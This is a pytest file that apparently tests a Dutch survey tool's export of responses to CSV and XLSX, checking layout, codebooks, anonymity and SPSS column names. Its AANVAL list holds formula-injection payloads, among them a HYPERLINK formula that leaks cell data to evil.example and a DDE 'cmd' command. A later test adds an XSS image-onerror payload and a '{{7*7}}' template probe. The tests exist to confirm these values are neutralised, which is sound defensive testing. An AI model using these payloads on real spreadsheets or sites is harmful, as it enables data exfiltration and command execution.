"""Exporting a survey round's responses: layout, codebook, formula injection, anonymity (§2, §3)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from makelaar.forms.antwoorden import dien_in
from makelaar.forms.uitvoer import exporteer
from makelaar.models.domain import EnqueteModus, Publiek, ResponsBron
from makelaar.models.errors import MakelaarError
from makelaar.models.spss import is_spss_naam
from makelaar.models.store import Store
from tests.forms.antwoord_factories import Ronde, maak_formulier, make_ronde

AANVAL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
]
LASTIG = 'een, "twee"\nen; drie'


def _dien_in(store: Store, ronde: Ronde, i: int, antwoorden: dict[str, Any], **kw: Any) -> None:
    dien_in(
        store,
        enquete_ronde_id=ronde.enquete_ronde_id,
        instance_id=f"uuid:test-{i}",
        antwoorden=antwoorden,
        taal="nl",
        respondent=f"PA-resp-{i}",
        wijk_code=ronde.wijk_codes[i],
        bron=ResponsBron.WEB,
        **kw,
    )


def _lees_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Dutch Excel opens it right
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _ronde(
    store: Store, modus: EnqueteModus = EnqueteModus.IDENTIFICEERBAAR, **labels: str
) -> Ronde:
    publiek = Publiek.BEWONERS if modus is EnqueteModus.ANONIEM else Publiek.PARTNERS
    ronde = make_ronde(
        store, maak_formulier(**labels), modus=modus, publiek=publiek, uitnodigingen=3
    )
    _dien_in(
        store, ronde, 0, {"rol": "makelaar", "signalen": ["schuld"], "uren": 12, "cijfer": 7.5}
    )
    _dien_in(store, ronde, 1, {"rol": "anders", "rol_anders": LASTIG, "uren": 0})
    return ronde


def test_csv_has_one_column_per_question_and_01_columns_per_choice(
    store: Store, tmp_path: Path
) -> None:
    ronde = _ronde(store)
    uitvoer = exporteer(store, ronde.enquete_ronde_id, tmp_path / "antwoorden.csv")
    assert (uitvoer.responsen, uitvoer.formaat, uitvoer.anoniem) == (2, "csv", False)
    header, *rows = _lees_csv(tmp_path / "antwoorden.csv")
    assert header == [
        "respons",
        "instance_id",
        "respondent",
        "wijk_code",
        "taal",
        "bron",
        "ontvangen_op",
        "rol",
        "rol_anders",
        "signalen",
        "signalen_eenzaam",
        "signalen_schuld",
        "uren",
        "cijfer",
        "toelichting",
    ]
    by_id = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    first, second = by_id["uuid:test-0"], by_id["uuid:test-1"]
    assert (first["signalen"], first["signalen_eenzaam"], first["signalen_schuld"]) == (
        "schuld",
        "0",
        "1",
    )
    assert first["cijfer"] == "7,5" and first["uren"] == "12"
    assert first["respondent"] == "PA-resp-0" and first["bron"] == "web"
    # not answered: blank, also in the 0/1 columns (KoboToolbox does the same)
    assert (second["signalen"], second["signalen_eenzaam"], second["cijfer"]) == ("", "", "")
    assert second["rol_anders"] == LASTIG  # comma, quote, newline and ';' round-trip
    assert second["uren"] == "0"

    codeboek = _lees_csv(tmp_path / "antwoorden.codeboek.csv")
    assert codeboek[0] == ["kolom", "label", "soort", "waarden"]
    regels = {r[0]: r for r in codeboek[1:]}
    assert regels["rol"] == [
        "rol",
        "Wat is uw rol?",
        "select_one",
        "makelaar = Makelaar; anders = Iets anders",
    ]
    assert regels["signalen_schuld"][1:3] == ["Welke signalen zag u?: Schulden", "keuze (0/1)"]


def test_xlsx_has_typed_cells_and_a_codebook_sheet_in_english(store: Store, tmp_path: Path) -> None:
    ronde = _ronde(store)
    path = tmp_path / "antwoorden.xlsx"
    uitvoer = exporteer(store, ronde.enquete_ronde_id, path, taal="en")
    assert uitvoer.codeboek is None
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["responses", "codebook"]
    rows = [list(r) for r in workbook["responses"].iter_rows(values_only=True)]
    header = rows[0]
    first = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[1] == "uuid:test-0")
    assert first["uren"] == 12 and first["cijfer"] == 7.5 and first["signalen_schuld"] == 1
    second = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[1] == "uuid:test-1")
    assert second["rol_anders"] == LASTIG
    codebook = [list(r) for r in workbook["codebook"].iter_rows(values_only=True)]
    assert codebook[0] == ["column", "label", "type", "values"]
    assert [
        "rol",
        "What is your role?",
        "select_one",
        "makelaar = Broker; anders = Something else",
    ] in codebook


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_formulas_in_answers_and_labels_are_neutralised(
    store: Store, tmp_path: Path, formaat: str
) -> None:
    ronde = make_ronde(
        store, maak_formulier(toelichting=AANVAL[0]), publiek=Publiek.PARTNERS, uitnodigingen=3
    )
    for i, aanval in enumerate(AANVAL):
        _dien_in(
            store,
            ronde,
            i,
            {
                "rol": "anders",
                "rol_anders": aanval,
                "uren": 1,
                "toelichting": ["-3,5", "+31 6 12345678", "-3,5"][i],
            },
        )
    path = tmp_path / f"aanval.{formaat}"
    exporteer(store, ronde.enquete_ronde_id, path)
    if formaat == "csv":
        header, *rows = _lees_csv(path)
        codebook = _lees_csv(path.with_name("aanval.codeboek.csv"))
    else:
        workbook = load_workbook(path)
        sheet, book = workbook.worksheets
        header, *rows = [
            [("" if c is None else c) for c in r] for r in sheet.iter_rows(values_only=True)
        ]
        codebook = [[("" if c is None else c) for c in r] for r in book.iter_rows(values_only=True)]
        assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
    kolom = header.index("rol_anders")
    assert sorted(str(r[kolom]) for r in rows) == sorted("'" + a for a in AANVAL)
    toelichting = header.index("toelichting")
    assert sorted(str(r[toelichting]) for r in rows) == ["+31 6 12345678", "-3,5", "-3,5"]
    label = next(r[1] for r in codebook if r[0] == "toelichting")
    assert label == "'" + AANVAL[0]


def test_anonymous_export_holds_no_respondent_time_source_or_token(
    store: Store, tmp_path: Path
) -> None:
    ronde = _ronde(store, EnqueteModus.ANONIEM)
    for formaat in ("csv", "xlsx"):
        path = tmp_path / f"anoniem.{formaat}"
        uitvoer = exporteer(store, ronde.enquete_ronde_id, path)
        assert uitvoer.anoniem and uitvoer.responsen == 2
        if formaat == "csv":
            header, *rows = _lees_csv(path)
            text = path.read_text(encoding="utf-8-sig")
        else:
            sheet = load_workbook(path).worksheets[0]
            header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
            text = repr(rows)
        assert header[:3] == ["respons", "wijk_code", "taal"]
        assert not {"respondent", "instance_id", "ontvangen_op", "bron"} & set(header)
        assert not re.search(r"\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}", text)  # no time at all
        for token in ronde.tokens:
            assert token not in text
        assert "uuid:test-" not in text


def test_identified_export_holds_no_token(store: Store, tmp_path: Path) -> None:
    ronde = _ronde(store)
    path = tmp_path / "id.csv"
    exporteer(store, ronde.enquete_ronde_id, path)
    text = path.read_text(encoding="utf-8-sig")
    assert "PA-resp-0" in text
    for token in ronde.tokens:
        assert token not in text


def test_scores_become_columns(store: Store, tmp_path: Path) -> None:
    ronde = make_ronde(store, publiek=Publiek.PARTNERS, uitnodigingen=1)

    def scorer(_form_id: str, _antwoorden: Any) -> dict[str, Any]:
        return {"djg": {"scale": "djg", "total": 3, "category": "matig", "items_used": ["a"]}}

    _dien_in(store, ronde, 0, {"rol": "makelaar", "uren": 2}, scorer=scorer)
    path = Path(exporteer(store, ronde.enquete_ronde_id, tmp_path / "s.csv").pad)
    header, row = _lees_csv(path)
    assert header[-2:] == ["score_djg_total", "score_djg_category"]
    assert row[-2:] == ["3", "matig"]


def test_unknown_format_and_round_are_refused(store: Store, tmp_path: Path) -> None:
    ronde = make_ronde(store, uitnodigingen=0)
    with pytest.raises(MakelaarError, match="Exportformaat 'sav' wordt niet ondersteund"):
        exporteer(store, ronde.enquete_ronde_id, tmp_path / "x.sav")
    with pytest.raises(MakelaarError, match="Enquêteronde 999999 bestaat niet"):
        exporteer(store, 999_999, tmp_path / "x.csv")


def test_markup_and_template_syntax_come_out_as_plain_text(store: Store, tmp_path: Path) -> None:
    ronde = make_ronde(store, publiek=Publiek.PARTNERS, uitnodigingen=2)
    payloads = ['"><img src=x onerror=alert(1)>', "{{7*7}}"]
    for i, payload in enumerate(payloads):
        _dien_in(store, ronde, i, {"rol": "makelaar", "uren": 1, "toelichting": payload})
    header, *rows = _lees_csv(
        Path(exporteer(store, ronde.enquete_ronde_id, tmp_path / "x.csv").pad)
    )
    kolom = header.index("toelichting")
    assert sorted(r[kolom] for r in rows) == sorted(payloads)
    sheet = load_workbook(
        exporteer(store, ronde.enquete_ronde_id, tmp_path / "x.xlsx").pad
    ).worksheets[0]
    cells = [c for r in sheet.iter_rows(values_only=True) for c in r]
    assert set(payloads) <= set(cells) and 49 not in cells


def test_control_characters_do_not_break_the_xlsx(store: Store, tmp_path: Path) -> None:
    ronde = make_ronde(store, publiek=Publiek.PARTNERS, uitnodigingen=1)
    _dien_in(store, ronde, 0, {"rol": "makelaar", "uren": 1, "toelichting": "a\x01b\x0bc"})
    path = Path(exporteer(store, ronde.enquete_ronde_id, tmp_path / "c.xlsx").pad)
    sheet = load_workbook(path).worksheets[0]
    header, row = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert row[header.index("toelichting")] == "a\ufffdb\ufffdc"
    assert path.stat().st_mode & 0o777 == 0o600  # personal data: readable by the owner only


def test_every_column_name_is_a_valid_unique_spss_name(store: Store, tmp_path: Path) -> None:
    ronde = _ronde(store)
    header, *_ = _lees_csv(
        Path(exporteer(store, ronde.enquete_ronde_id, tmp_path / "spss.csv").pad)
    )
    assert "signalen_schuld" in header and not any("/" in naam for naam in header)
    assert all(is_spss_naam(naam) for naam in header)
    assert len({naam.upper() for naam in header}) == len(header)
